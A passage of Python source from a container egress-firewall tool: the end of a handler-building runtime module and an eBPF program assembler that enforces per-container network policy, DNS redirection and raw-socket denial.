no kernel enforcement -- used by tests and by `firewall status` on
machines without the kernel half installed).
"""

from __future__ import annotations

from pathlib import Path

from .. import consts, logsetup
from ..config import Config
from ..engine.api import Engine
from ..errors import ClawkerError
from .enroll import Attacher, CgroupResolver, FakeAttacher, FakeCgroupResolver
from .handler import FirewallHandler
from .maps import FakeMaps, FirewallMaps
from .rules import RulesStore
from .stack import FirewallStack

log = logsetup.get("firewall.runtime")


class FirewallUnavailable(ClawkerError):
    pass


def kernel_available(pin_dir: str = consts.BPF_PIN_DIR) -> bool:
    return (Path(pin_dir) / "containers").exists()


def inprocess_kernel_available() -> bool:
    """bpf(2) PROG_LOAD + writable cgroup-v2 from this process."""
    try:
        from .bpfkern import kernel_available as probe

        return probe()
    except Exception:  # noqa: BLE001 - any failure means the lane is out
        return False


def build_handler(
    cfg: Config,
    engine: Engine,
    *,
    maps: FirewallMaps | None = None,
    resolver: CgroupResolver | None = None,
    attacher: Attacher | None = None,
    monitor_fallback: bool = False,
    inprocess_ok: bool = True,
    dns_host: str = "",
    dns_port: int = consts.DNS_PORT,
) -> FirewallHandler:
    """``inprocess_ok`` gates the in-process verifier-loaded lane: it
    only makes sense when the engine runs REAL containers whose cgroups
    exist on this host (callers with a fake driver pass False)."""
    if maps is None:
        ka = None
        if not kernel_available() and inprocess_ok \
                and inprocess_kernel_available():
            # no pinned object, but bpf(2) + cgroup-v2 work: try to
            # assemble + verifier-load the programs in-process.  A probe
            # that passed does not guarantee the full set loads (older
            # kernels, verifier limits), so a failure here degrades to
            # the next lane instead of sinking every firewall verb.
            from .enroll import KernelAttacher

            try:
                ka = KernelAttacher()
            except Exception as e:  # noqa: BLE001 - lane probe
                log.warning("firewall: in-process kernel lane failed "
                            "(%s); falling back", e)
        if kernel_available():
            from .bpfsys import PinnedMaps

            maps = PinnedMaps()
            resolver = resolver or CgroupResolver()
            attacher = attacher or Attacher(pin_dir=consts.BPF_PIN_DIR)
            log.info("firewall: kernel enforcement (pinned maps)")
        elif ka is not None:
            maps = ka.maps
            resolver = resolver or CgroupResolver()
            attacher = attacher or ka
            log.info("firewall: kernel enforcement (in-process verifier-"
                     "loaded programs)")
        elif monitor_fallback:
            maps = FakeMaps()
            resolver = resolver or FakeCgroupResolver()
            attacher = attacher or FakeAttacher()
            # no kernel redirect exists to deliver :53 traffic to the
            # gateway address, so the monitor-mode gate binds loopback
            if not dns_host:
                dns_host, dns_port = "127.0.0.1", 0
            log.warning(
                "firewall: kernel programs not loaded -- userspace monitor "
                "mode only, NO enforcement"
            )
        else:
            raise FirewallUnavailable(
                f"firewall enabled but no pinned programs under "
                f"{consts.BPF_PIN_DIR}; build + load them with "
                f"`make -C native/ebpf && fwctl load` (the tpu_vm "
                f"provisioner does this per worker), or disable "
                f"firewall.enable in settings.yaml"
            )
    else:
        resolver = resolver or FakeCgroupResolver()
        attacher = attacher or FakeAttacher()

    stack = FirewallStack(
        engine,
        maps,
        conf_dir=cfg.data_dir / "firewall" / "envoy",
        pki_dir=cfg.pki_dir,
        dns_host=dns_host,
        dns_port=dns_port,
        upstreams=tuple(cfg.settings.firewall.dns_upstreams) or consts.UPSTREAM_DNS,
        gitguard_hosts=(tuple(cfg.settings.gitguard.hosts)
                        if cfg.settings.gitguard.enable else ()),
        gitguard_socket=cfg.settings.gitguard.socket,
    )
    return FirewallHandler(
        stack=stack,
        maps=maps,
        rules_store=RulesStore(cfg.egress_rules_path),
        base_rules=cfg.egress_rules(),
        pki_dir=cfg.pki_dir,
        resolver=resolver,
        attacher=attacher,
        hostproxy_port=cfg.settings.host_proxy.port,
        allow_hostproxy=cfg.settings.host_proxy.enable,
        state_path=cfg.data_dir / "firewall" / "enrollments.json",
    )
