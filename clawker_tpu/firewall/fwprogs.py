"""The nine egress-firewall programs, assembled for the real kernel.

This is the in-kernel enforcement path built with bpfasm.py: the same
decision procedure as the executable spec (policy.py decide, step
numbers in comments match) and the C twin (native/ebpf/fw.c), emitted
as verifier-ready bytecode against live map fds.  Loading happens at
runtime through bpfkern.prog_load, so the *kernel verifier* -- not a
host-compiled simulation -- is the gate every program passes before it
can enforce (scripts/bpfgate.py commits the transcripts).

Program set (fw.c:1-10, reference clawker.c:121-394):

  fw_connect4 / fw_connect6        TCP/UDP connect() policy + rewrite
  fw_sendmsg4 / fw_sendmsg6        unconnected-UDP sendto() policy
  fw_recvmsg4 / fw_recvmsg6        reverse-NAT of redirected UDP replies
  fw_getpeername4 / fw_getpeername6  apps see the dst they aimed at
  fw_sock_create                   SOCK_RAW / SOCK_PACKET deny

Frame layout (all programs share it; r10 = frame pointer):

  fp-8   u64 cgroup id (key slot for cg-keyed lookups)
  fp-16  u64 socket cookie / bypass-deadline scratch
  fp-20  u32 dns_cache key (dst ip)
  fp-32  route key (12B: zone @-32, port @-24, proto @-22, pad @-21)
  fp-48  verdict (16B: action @-48, reason @-47, rport @-46, rip @-44,
                  zone @-40) -- mirrors struct fw_verdict
  fp-56  udp_flow value (ip @-56, port @-52, pad @-50)
  fp-64  u64 ktime scratch (rate-limit window 'now')
  fp-80  fw_rl fresh value (window @-80, count @-72, pad @-68)
  fp-88  decision inputs: dst u32 @-88, dport u16 @-84, proto u8 @-82

Registers: r6 = ctx, r7 = cgroup id, r8 = container policy pointer,
r9 = ringbuf record pointer inside the emit block.
"""

from __future__ import annotations

import hashlib
import os
import struct
from dataclasses import dataclass

from . import bpfkern as K
from . import bpfsys as _bpfsys
from .bpfasm import (
    FN_get_current_cgroup_id,
    FN_get_socket_cookie,
    FN_ktime_get_boot_ns,
    FN_ktime_get_ns,
    FN_map_delete_elem,
    FN_map_lookup_elem,
    FN_map_update_elem,
    FN_ringbuf_reserve,
    FN_ringbuf_submit,
    R0, R1, R2, R3, R4, R5, R6, R7, R8, R9, R10,
    Asm,
)

# actions / reasons / flags -- model.py Action/Reason, fw_maps.h defines
ALLOW, DENY, REDIRECT, REDIRECT_DNS = 0, 1, 2, 3
(R_UNMANAGED, R_BYPASS, R_LOOPBACK, R_DNS, R_ENVOY, R_HOSTPROXY, R_ROUTE,
 R_NO_ROUTE, R_NO_DNS_ENTRY, R_RAW_SOCKET, R_IPV6, R_MONITOR,
 R_INTRA_NET) = range(13)
F_ENFORCE, F_HOSTPROXY = 1, 2
PROTO_TCP, PROTO_UDP = 6, 17

HTONS_53 = 0x3500           # port 53 as a __be16 value on a LE host
V4MAPPED_W2 = 0xFFFF0000    # ::ffff: prefix word as loaded LE
V6_LOOPBACK_W3 = 0x01000000  # ::1 last word as loaded LE

RL_WINDOW_NS = 100_000_000
RL_BURST = 64
EVENT_SZ = 40
RING_SZ = 1 << 19

# bpf_sock_addr field offsets (uapi layout; fw.c:35-45 local decl)
CTX_USER_IP4 = 4
CTX_USER_IP6 = 8            # [4]__u32 at 8,12,16,20
CTX_USER_PORT = 24
CTX_PROTOCOL = 36
# struct bpf_sock offsets (sock_create)
SK_TYPE = 8
SOCK_RAW, SOCK_PACKET = 3, 10

# container policy field offsets (struct fw_container / ContainerPolicy.FMT)
POL_ENVOY_IP = 0
POL_DNS_IP = 4
POL_HOSTPROXY_IP = 8
POL_HOSTPROXY_PORT = 12
POL_FLAGS = 16
POL_NET_IP = 20
POL_NET_PREFIX = 24


@dataclass
class FwMapFds:
    """Live map fds shared by all nine programs (fw.c map section)."""

    containers: int
    bypass: int
    dns_cache: int
    routes: int
    udp_flows: int
    tcp_flows: int
    events: int
    ratelimit: int

    def close(self) -> None:
        for name, fd in list(self.__dict__.items()):
            if isinstance(fd, int) and fd >= 0:
                try:
                    os.close(fd)
                except OSError:
                    pass
                setattr(self, name, -1)  # idempotent: never re-close a
                # number the OS may have reallocated


def create_maps() -> FwMapFds:
    """Create the live map set (sizes from fw_maps.h / model.py)."""
    return FwMapFds(
        containers=K.map_create(K.BPF_MAP_TYPE_HASH, 8, 28, 1024, "containers"),
        bypass=K.map_create(K.BPF_MAP_TYPE_HASH, 8, 8, 1024, "bypass"),
        dns_cache=K.map_create(K.BPF_MAP_TYPE_LRU_HASH, 4, 16, 65536, "dns_cache"),
        routes=K.map_create(K.BPF_MAP_TYPE_HASH, 12, 8, 16384, "routes"),
        udp_flows=K.map_create(K.BPF_MAP_TYPE_LRU_HASH, 8, 8, 4096, "udp_flows"),
        tcp_flows=K.map_create(K.BPF_MAP_TYPE_LRU_HASH, 8, 8, 4096, "tcp_flows"),
        events=K.map_create(K.BPF_MAP_TYPE_RINGBUF, 0, 0, RING_SZ, "events"),
        ratelimit=K.map_create(K.BPF_MAP_TYPE_LRU_HASH, 8, 16, 1024, "ratelimit"),
    )


# ---------------------------------------------------------------------------
# shared emitters.  Each is inlined at most once per program; label names
# are fixed because every program gets its own Asm namespace.
# ---------------------------------------------------------------------------


def _zero_verdict(a: Asm) -> None:
    a.st_imm("dw", R10, -48, 0)   # action/reason/rport/rip
    a.st_imm("dw", R10, -40, 0)   # zone_hash


def _set_verdict(a: Asm, action: int, reason: int) -> None:
    a.st_imm("b", R10, -48, action)
    a.st_imm("b", R10, -47, reason)


def _lookup(a: Asm, map_fd: int, key_off: int) -> None:
    """r0 = map_lookup_elem(map, fp+key_off); clobbers r1-r5."""
    a.ld_map_fd(R1, map_fd)
    a.mov_reg(R2, R10)
    a.alu64_imm("add", R2, key_off)
    a.call(FN_map_lookup_elem)


def _emit_bypass_check(a: Asm, m: FwMapFds, *, active: str, inactive: str,
                       pfx: str) -> None:
    """fw_bypass_active (fw.c:76-87): dead-man enforced in-kernel -- an
    expired entry is deleted on first touch (fail-closed)."""
    _lookup(a, m.bypass, -8)
    a.j_imm("jeq", R0, 0, inactive)
    a.ldx("dw", R1, R0, 0)
    a.stx("dw", R10, -16, R1)          # save deadline across the helper call
    a.call(FN_ktime_get_boot_ns)
    a.ldx("dw", R1, R10, -16)
    a.j_reg("jle", R0, R1, active)     # now <= deadline
    a.ld_map_fd(R1, m.bypass)          # expired: delete, enforcement resumes
    a.mov_reg(R2, R10)
    a.alu64_imm("add", R2, -8)
    a.call(FN_map_delete_elem)
    a.jmp(inactive)
    _ = pfx


def _emit_event_block(a: Asm, m: FwMapFds) -> None:
    """fw_emit + fw_rl_admit (fw.c:133-175), label "emit", falling through
    to whatever the caller emits next.  Reads cg from r7/fp-8, verdict from
    fp-48, dst/dport/proto from fp-88/-84/-82.  Clobbers r0-r5, r9."""
    a.label("emit")
    # -- rate limit (windowed counter; racy reset is fine for telemetry)
    a.call(FN_ktime_get_ns)
    a.stx("dw", R10, -64, R0)
    _lookup(a, m.ratelimit, -8)
    a.j_imm("jeq", R0, 0, "rl_fresh")
    a.ldx("dw", R1, R0, 0)             # window_start
    a.ldx("dw", R2, R10, -64)          # now
    a.mov_reg(R3, R2)
    a.alu64_reg("sub", R3, R1)
    a.mov_imm(R4, RL_WINDOW_NS)
    a.j_reg("jgt", R3, R4, "rl_reset")
    a.ldx("w", R1, R0, 8)              # count
    a.j_imm("jge", R1, RL_BURST, "skip_emit")
    a.alu64_imm("add", R1, 1)
    a.stx("w", R0, 8, R1)
    a.jmp("rl_admitted")
    a.label("rl_reset")
    a.stx("dw", R0, 0, R2)
    a.st_imm("w", R0, 8, 1)
    a.jmp("rl_admitted")
    a.label("rl_fresh")
    a.ldx("dw", R1, R10, -64)
    a.stx("dw", R10, -80, R1)
    a.st_imm("w", R10, -72, 1)
    a.st_imm("w", R10, -68, 0)
    a.ld_map_fd(R1, m.ratelimit)
    a.mov_reg(R2, R10)
    a.alu64_imm("add", R2, -8)
    a.mov_reg(R3, R10)
    a.alu64_imm("add", R3, -80)
    a.mov_imm(R4, 0)
    a.call(FN_map_update_elem)
    a.label("rl_admitted")
    # -- reserve + fill struct fw_event (40B)
    a.ld_map_fd(R1, m.events)
    a.mov_imm(R2, EVENT_SZ)
    a.mov_imm(R3, 0)
    a.call(FN_ringbuf_reserve)
    a.j_imm("jeq", R0, 0, "skip_emit")
    a.mov_reg(R9, R0)
    a.call(FN_ktime_get_ns)
    a.stx("dw", R9, 0, R0)             # ts_ns
    a.stx("dw", R9, 8, R7)             # cgroup_id
    a.ldx("dw", R1, R10, -40)
    a.stx("dw", R9, 16, R1)            # zone_hash
    a.ldx("w", R1, R10, -88)
    a.stx("w", R9, 24, R1)             # dst_ip
    a.ldx("h", R1, R10, -84)
    a.stx("h", R9, 28, R1)             # dst_port
    a.ldx("b", R1, R10, -48)
    a.stx("b", R9, 30, R1)             # verdict
    a.ldx("b", R1, R10, -82)
    a.stx("b", R9, 31, R1)             # proto
    a.ldx("b", R1, R10, -47)
    a.stx("b", R9, 32, R1)             # reason
    for off in range(33, 40):
        a.st_imm("b", R9, off, 0)
    a.mov_reg(R1, R9)
    a.mov_imm(R2, 0)
    a.call(FN_ringbuf_submit)
    a.label("skip_emit")


def _emit_decide(a: Asm, m: FwMapFds) -> None:
    """fw_decide (fw.c:181-294) == policy.py decide, step for step.
    Inputs: r7/fp-8 cg, r8 pol, fp-88/-84/-82 dst/dport/proto.  Every
    path ends at label "emit" (event paths) or "dispatch" (quiet allows)
    with the verdict at fp-48."""
    _zero_verdict(a)
    # 2. bypass
    _emit_bypass_check(a, m, active="d_bypass", inactive="d_nobypass", pfx="d")
    a.label("d_bypass")
    _set_verdict(a, ALLOW, R_BYPASS)
    a.jmp("emit")
    a.label("d_nobypass")
    # 3. loopback: first octet 127 (low byte of the be32 as loaded)
    a.ldx("w", R1, R10, -88)
    a.alu64_imm("and", R1, 0xFF)
    a.j_imm("jne", R1, 127, "d_notlo")
    _set_verdict(a, ALLOW, R_LOOPBACK)
    a.jmp("dispatch")
    a.label("d_notlo")
    # 4. all DNS flows terminate at our gate
    a.ldx("h", R1, R10, -84)
    a.j_imm("jne", R1, HTONS_53, "d_notdns")
    a.ldx("w", R2, R8, POL_DNS_IP)
    a.ldx("w", R1, R10, -88)
    a.j_reg("jne", R1, R2, "d_dnsredir")
    _set_verdict(a, ALLOW, R_DNS)
    a.jmp("dispatch")
    a.label("d_dnsredir")
    _set_verdict(a, REDIRECT_DNS, R_DNS)
    a.stx("w", R10, -44, R2)           # redirect_ip = dns_ip
    a.st_imm("h", R10, -46, HTONS_53)
    a.jmp("emit")
    a.label("d_notdns")
    # 5. the proxy itself
    a.ldx("w", R2, R8, POL_ENVOY_IP)
    a.ldx("w", R1, R10, -88)
    a.j_reg("jne", R1, R2, "d_notenvoy")
    _set_verdict(a, ALLOW, R_ENVOY)
    a.jmp("dispatch")
    a.label("d_notenvoy")
    # 6. host side-channel
    a.ldx("w", R2, R8, POL_FLAGS)
    a.j_imm("jset", R2, F_HOSTPROXY, "d_hp")
    a.jmp("d_intra")
    a.label("d_hp")
    a.ldx("w", R2, R8, POL_HOSTPROXY_IP)
    a.ldx("w", R1, R10, -88)
    a.j_reg("jne", R1, R2, "d_intra")
    a.ldx("h", R2, R8, POL_HOSTPROXY_PORT)
    a.ldx("h", R1, R10, -84)
    a.j_reg("jne", R1, R2, "d_intra")
    _set_verdict(a, ALLOW, R_HOSTPROXY)
    a.jmp("dispatch")
    a.label("d_intra")
    # 6b. intra-network bypass (gateway exclusion: dns/hostproxy ips)
    a.ldx("w", R2, R8, POL_NET_PREFIX)
    a.j_imm("jeq", R2, 0, "d_step7")
    a.j_imm("jgt", R2, 32, "d_step7")
    a.ldx("w", R1, R10, -88)
    a.ldx("w", R3, R8, POL_DNS_IP)
    a.j_reg("jeq", R1, R3, "d_step7")
    a.ldx("w", R3, R8, POL_HOSTPROXY_IP)
    a.j_reg("jeq", R1, R3, "d_step7")
    a.mov32_imm(R4, 0xFFFFFFFF)
    a.j_imm("jeq", R2, 32, "d_mask")
    a.mov32_imm(R5, 0xFFFFFFFF)
    a.alu32_reg("rsh", R5, R2)
    a.alu32_reg("xor", R4, R5)         # mask = ~(0xffffffff >> prefix)
    a.label("d_mask")
    a.endian_be(R1, 32)                # dst -> host order
    a.alu32_reg("and", R1, R4)
    a.ldx("w", R3, R8, POL_NET_IP)
    a.endian_be(R3, 32)
    a.alu32_reg("and", R3, R4)
    a.j_reg("jne", R1, R3, "d_step7")
    _set_verdict(a, ALLOW, R_INTRA_NET)
    a.jmp("dispatch")
    a.label("d_step7")
    # 7. ip-literal egress: no resolution through the gate
    a.ldx("w", R1, R10, -88)
    a.stx("w", R10, -20, R1)
    _lookup(a, m.dns_cache, -20)
    a.j_imm("jne", R0, 0, "d_havedns")
    a.ldx("w", R2, R8, POL_FLAGS)
    a.j_imm("jset", R2, F_ENFORCE, "d_nd_enf")
    _set_verdict(a, ALLOW, R_MONITOR)
    a.jmp("emit")
    a.label("d_nd_enf")
    _set_verdict(a, DENY, R_NO_DNS_ENTRY)
    a.jmp("emit")
    a.label("d_havedns")
    a.ldx("dw", R1, R0, 0)             # dns->zone_hash
    a.stx("dw", R10, -40, R1)          # verdict.zone_hash
    # 8. zone route: exact port first, then any-port
    a.stx("dw", R10, -32, R1)
    a.ldx("h", R1, R10, -84)
    a.stx("h", R10, -24, R1)
    a.ldx("b", R1, R10, -82)
    a.stx("b", R10, -22, R1)
    a.st_imm("b", R10, -21, 0)
    _lookup(a, m.routes, -32)
    a.j_imm("jne", R0, 0, "d_haveroute")
    a.st_imm("h", R10, -24, 0)
    _lookup(a, m.routes, -32)
    a.j_imm("jne", R0, 0, "d_haveroute")
    # 9. resolved zone, but proto/port not ruled
    a.ldx("w", R2, R8, POL_FLAGS)
    a.j_imm("jset", R2, F_ENFORCE, "d_nr_enf")
    _set_verdict(a, ALLOW, R_MONITOR)
    a.jmp("emit")
    a.label("d_nr_enf")
    _set_verdict(a, DENY, R_NO_ROUTE)
    a.jmp("emit")
    a.label("d_haveroute")
    a.ldx("b", R1, R0, 0)              # rt->action
    a.stx("b", R10, -48, R1)
    a.st_imm("b", R10, -47, R_ROUTE)
    a.ldx("h", R1, R0, 2)              # rt->redirect_port
    a.stx("h", R10, -46, R1)
    a.ldx("w", R1, R0, 4)              # rt->redirect_ip
    a.stx("w", R10, -44, R1)
    a.jmp("emit")


def _emit_prologue(a: Asm, m: FwMapFds) -> None:
    """ctx -> r6, cgroup id -> r7/fp-8, policy -> r8; unenrolled cgroups
    pass through untouched (fw.c step 1)."""
    a.mov_reg(R6, R1)
    a.call(FN_get_current_cgroup_id)
    a.mov_reg(R7, R0)
    a.stx("dw", R10, -8, R7)
    _lookup(a, m.containers, -8)
    a.j_imm("jne", R0, 0, "enrolled")
    a.ret_imm(1)
    a.label("enrolled")
    a.mov_reg(R8, R0)


def _emit_note_flow_and_rewrite(a: Asm, m: FwMapFds, ip_ctx_off: int) -> None:
    """fw_note_flow + redirect rewrite (fw.c:298-311, 330-335), labels
    "redirect"/"do_rewrite"; falls through to label "ok_exit" emitted by
    the caller."""
    a.label("redirect")
    a.mov_reg(R1, R6)
    a.call(FN_get_socket_cookie)
    a.j_imm("jeq", R0, 0, "do_rewrite")
    a.stx("dw", R10, -16, R0)
    a.ldx("w", R1, R10, -88)
    a.stx("w", R10, -56, R1)
    a.ldx("h", R1, R10, -84)
    a.stx("h", R10, -52, R1)
    a.st_imm("h", R10, -50, 0)
    a.ldx("b", R1, R10, -82)
    a.j_imm("jeq", R1, PROTO_UDP, "nf_udp")
    a.ld_map_fd(R1, m.tcp_flows)
    a.jmp("nf_upd")
    a.label("nf_udp")
    a.ld_map_fd(R1, m.udp_flows)
    a.label("nf_upd")
    a.mov_reg(R2, R10)
    a.alu64_imm("add", R2, -16)
    a.mov_reg(R3, R10)
    a.alu64_imm("add", R3, -56)
    a.mov_imm(R4, 0)
    a.call(FN_map_update_elem)
    a.label("do_rewrite")
    a.ldx("w", R1, R10, -44)
    a.stx("w", R6, ip_ctx_off, R1)
    a.ldx("h", R1, R10, -46)
    a.stx("w", R6, CTX_USER_PORT, R1)


def _emit_dispatch(a: Asm, m: FwMapFds, ip_ctx_off: int) -> None:
    """Verdict -> program return value (fw_egress4 switch, fw.c:327-338)."""
    a.label("dispatch")
    a.ldx("b", R1, R10, -48)
    a.j_imm("jeq", R1, ALLOW, "ok_exit")
    a.j_imm("jeq", R1, REDIRECT, "redirect")
    a.j_imm("jeq", R1, REDIRECT_DNS, "redirect")
    a.ret_imm(0)                       # FW_EPERM
    _emit_note_flow_and_rewrite(a, m, ip_ctx_off)
    a.label("ok_exit")
    a.ret_imm(1)


# ---------------------------------------------------------------------------
# program builders
# ---------------------------------------------------------------------------


def prog_egress4(m: FwMapFds, name: str, proto_from_ctx: bool) -> Asm:
    """fw_connect4 / fw_sendmsg4 (fw.c:341-353)."""
    a = Asm(name)
    _emit_prologue(a, m)
    a.ldx("w", R1, R6, CTX_USER_IP4)
    a.stx("w", R10, -88, R1)
    a.ldx("w", R1, R6, CTX_USER_PORT)
    a.stx("h", R10, -84, R1)
    if proto_from_ctx:
        a.ldx("w", R1, R6, CTX_PROTOCOL)
        a.j_imm("jeq", R1, PROTO_UDP, "p_udp")
        a.st_imm("b", R10, -82, PROTO_TCP)
        a.jmp("p_done")
        a.label("p_udp")
        a.st_imm("b", R10, -82, PROTO_UDP)
        a.label("p_done")
    else:
        a.st_imm("b", R10, -82, PROTO_UDP)
    _emit_decide(a, m)
    _emit_event_block(a, m)
    _emit_dispatch(a, m, CTX_USER_IP4)
    return a


def prog_ingress4(m: FwMapFds, name: str, include_tcp: bool) -> Asm:
    """fw_recvmsg4 / fw_getpeername4 (fw.c:359-395): reverse-NAT.  These
    attach points must return 1 (the kernel pins the range), so every
    path allows."""
    a = Asm(name)
    _emit_prologue(a, m)
    a.mov_reg(R1, R6)
    a.call(FN_get_socket_cookie)
    a.j_imm("jeq", R0, 0, "out")
    a.stx("dw", R10, -16, R0)
    _lookup(a, m.udp_flows, -16)
    a.j_imm("jne", R0, 0, "have_flow")
    if include_tcp:
        _lookup(a, m.tcp_flows, -16)
        a.j_imm("jne", R0, 0, "have_flow")
    a.jmp("out")
    a.label("have_flow")
    a.mov_reg(R9, R0)
    a.ldx("w", R1, R6, CTX_USER_IP4)
    a.ldx("w", R2, R8, POL_DNS_IP)
    a.j_reg("jeq", R1, R2, "rewrite")
    a.ldx("w", R2, R8, POL_ENVOY_IP)
    a.j_reg("jne", R1, R2, "out")
    a.label("rewrite")
    a.ldx("w", R1, R9, 0)              # f->orig_ip
    a.stx("w", R6, CTX_USER_IP4, R1)
    a.ldx("h", R1, R9, 4)              # f->orig_port
    a.stx("w", R6, CTX_USER_PORT, R1)
    a.label("out")
    a.ret_imm(1)
    return a


def prog_egress6(m: FwMapFds, name: str, proto_from_ctx: bool) -> Asm:
    """fw_connect6 / fw_sendmsg6 (fw.c:416-476): v4-mapped routes through
    the v4 decision; native v6 is denied (the data plane is v4-only)."""
    a = Asm(name)
    _emit_prologue(a, m)
    a.ldx("w", R1, R6, CTX_USER_PORT)
    a.stx("h", R10, -84, R1)
    if proto_from_ctx:
        a.ldx("w", R1, R6, CTX_PROTOCOL)
        a.j_imm("jeq", R1, PROTO_UDP, "p_udp")
        a.st_imm("b", R10, -82, PROTO_TCP)
        a.jmp("p_done")
        a.label("p_udp")
        a.st_imm("b", R10, -82, PROTO_UDP)
        a.label("p_done")
    else:
        a.st_imm("b", R10, -82, PROTO_UDP)
    # break-glass bypass must open v6 too (fw.c:428-436)
    _emit_bypass_check(a, m, active="v6_bypass", inactive="v6_nobypass", pfx="v6")
    a.label("v6_bypass")
    _zero_verdict(a)
    _set_verdict(a, ALLOW, R_BYPASS)
    a.st_imm("w", R10, -88, 0)
    a.jmp("emit")
    a.label("v6_nobypass")
    a.ldx("w", R1, R6, CTX_USER_IP6)       # w0
    a.ldx("w", R2, R6, CTX_USER_IP6 + 4)   # w1
    a.ldx("w", R3, R6, CTX_USER_IP6 + 8)   # w2
    a.ldx("w", R4, R6, CTX_USER_IP6 + 12)  # w3
    # ::1 loopback
    a.mov_reg(R5, R1)
    a.alu64_reg("or", R5, R2)
    a.alu64_reg("or", R5, R3)
    a.j_imm("jne", R5, 0, "v6_notlo")
    a.j_imm("jeq", R4, V6_LOOPBACK_W3, "v6_ok")
    a.label("v6_notlo")
    # ::ffff:a.b.c.d?
    a.j_imm("jne", R1, 0, "v6_deny")
    a.j_imm("jne", R2, 0, "v6_deny")
    a.mov32_imm(R5, V4MAPPED_W2)
    a.j_reg("jne", R3, R5, "v6_deny")
    a.stx("w", R10, -88, R4)               # dst = mapped v4
    _emit_decide(a, m)
    a.label("v6_deny")
    _zero_verdict(a)
    _set_verdict(a, DENY, R_IPV6)
    a.st_imm("w", R10, -88, 0)
    a.jmp("emit")
    a.label("v6_ok")
    a.ret_imm(1)
    _emit_event_block(a, m)
    _emit_dispatch(a, m, CTX_USER_IP6 + 12)
    return a


def prog_ingress6(m: FwMapFds, name: str, include_tcp: bool) -> Asm:
    """fw_recvmsg6 / fw_getpeername6 (fw.c:478-516): reverse-NAT on the
    v4-mapped last word."""
    a = Asm(name)
    _emit_prologue(a, m)
    a.ldx("w", R1, R6, CTX_USER_IP6)
    a.j_imm("jne", R1, 0, "out")
    a.ldx("w", R1, R6, CTX_USER_IP6 + 4)
    a.j_imm("jne", R1, 0, "out")
    a.ldx("w", R1, R6, CTX_USER_IP6 + 8)
    a.mov32_imm(R2, V4MAPPED_W2)
    a.j_reg("jne", R1, R2, "out")
    a.mov_reg(R1, R6)
    a.call(FN_get_socket_cookie)
    a.j_imm("jeq", R0, 0, "out")
    a.stx("dw", R10, -16, R0)
    _lookup(a, m.udp_flows, -16)
    a.j_imm("jne", R0, 0, "have_flow")
    if include_tcp:
        _lookup(a, m.tcp_flows, -16)
        a.j_imm("jne", R0, 0, "have_flow")
    a.jmp("out")
    a.label("have_flow")
    a.mov_reg(R9, R0)
    a.ldx("w", R1, R6, CTX_USER_IP6 + 12)
    a.ldx("w", R2, R8, POL_DNS_IP)
    a.j_reg("jeq", R1, R2, "rewrite")
    a.ldx("w", R2, R8, POL_ENVOY_IP)
    a.j_reg("jne", R1, R2, "out")
    a.label("rewrite")
    a.ldx("w", R1, R9, 0)
    a.stx("w", R6, CTX_USER_IP6 + 12, R1)
    a.ldx("h", R1, R9, 4)
    a.stx("w", R6, CTX_USER_PORT, R1)
    a.label("out")
    a.ret_imm(1)
    return a


def prog_sock_create(m: FwMapFds, name: str = "fw_sock_create") -> Asm:
    """fw_sock_create (fw.c:526-546): SOCK_RAW/SOCK_PACKET deny for
    enrolled cgroups (no ICMP exfil, no packet crafting)."""
    a = Asm(name)
    _emit_prologue(a, m)
    _emit_bypass_check(a, m, active="sc_ok", inactive="sc_nobypass", pfx="sc")
    a.label("sc_nobypass")
    a.ldx("w", R1, R6, SK_TYPE)
    a.j_imm("jeq", R1, SOCK_RAW, "sc_deny")
    a.j_imm("jeq", R1, SOCK_PACKET, "sc_deny")
    a.label("sc_ok")
    a.ret_imm(1)
    a.label("sc_deny")
    _zero_verdict(a)
    _set_verdict(a, DENY, R_RAW_SOCKET)
    a.st_imm("w", R10, -88, 0)
    a.st_imm("h", R10, -84, 0)
    a.st_imm("b", R10, -82, 0)
    a.jmp("emit")
    _emit_event_block(a, m)
    a.ret_imm(0)
    return a


# ---------------------------------------------------------------------------
# the program set + kernel owner
# ---------------------------------------------------------------------------

# (name, prog_type, expected/attach type, builder kwargs)
PROGRAM_SPECS = (
    ("fw_connect4", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_INET4_CONNECT,
     lambda m: prog_egress4(m, "fw_connect4", proto_from_ctx=True)),
    ("fw_sendmsg4", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_UDP4_SENDMSG,
     lambda m: prog_egress4(m, "fw_sendmsg4", proto_from_ctx=False)),
    ("fw_recvmsg4", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_UDP4_RECVMSG,
     lambda m: prog_ingress4(m, "fw_recvmsg4", include_tcp=False)),
    ("fw_getpeername4", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR,
     K.BPF_CGROUP_INET4_GETPEERNAME,
     lambda m: prog_ingress4(m, "fw_getpeername4", include_tcp=True)),
    ("fw_connect6", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_INET6_CONNECT,
     lambda m: prog_egress6(m, "fw_connect6", proto_from_ctx=True)),
    ("fw_sendmsg6", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_UDP6_SENDMSG,
     lambda m: prog_egress6(m, "fw_sendmsg6", proto_from_ctx=False)),
    ("fw_recvmsg6", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR, K.BPF_CGROUP_UDP6_RECVMSG,
     lambda m: prog_ingress6(m, "fw_recvmsg6", include_tcp=False)),
    ("fw_getpeername6", K.BPF_PROG_TYPE_CGROUP_SOCK_ADDR,
     K.BPF_CGROUP_INET6_GETPEERNAME,
     lambda m: prog_ingress6(m, "fw_getpeername6", include_tcp=True)),
    ("fw_sock_create", K.BPF_PROG_TYPE_CGROUP_SOCK, K.BPF_CGROUP_INET_SOCK_CREATE,
     lambda m: prog_sock_create(m)),
)


@dataclass
class LoadedProg:
    name: str
    fd: int
    attach_type: int
    insn_count: int
    sha256: str
    verifier_log: str


class FwKernel:
    """Owner of the live enforcement plane: maps + verified programs.

    Mirrors the reference manager's Install path
    (controlplane/firewall/ebpf/manager.go:120 loadPrograms, :246 Attach
    with BPF_F_ALLOW_MULTI) minus the ELF step: programs are assembled
    against this instance's map fds and verified at construction.
    """

    def __init__(self, log_level: int = 1):
        self.maps = create_maps()
        self.progs: dict[str, LoadedProg] = {}
        self._attached: list[tuple[int, int, int]] = []  # prog_fd, cg_fd, type
        self._by_path: dict[str, int] = {}               # cgroup path -> cg_fd
        try:
            for name, ptype, atype, build in PROGRAM_SPECS:
                asm = build(self.maps)
                code = asm.assemble()
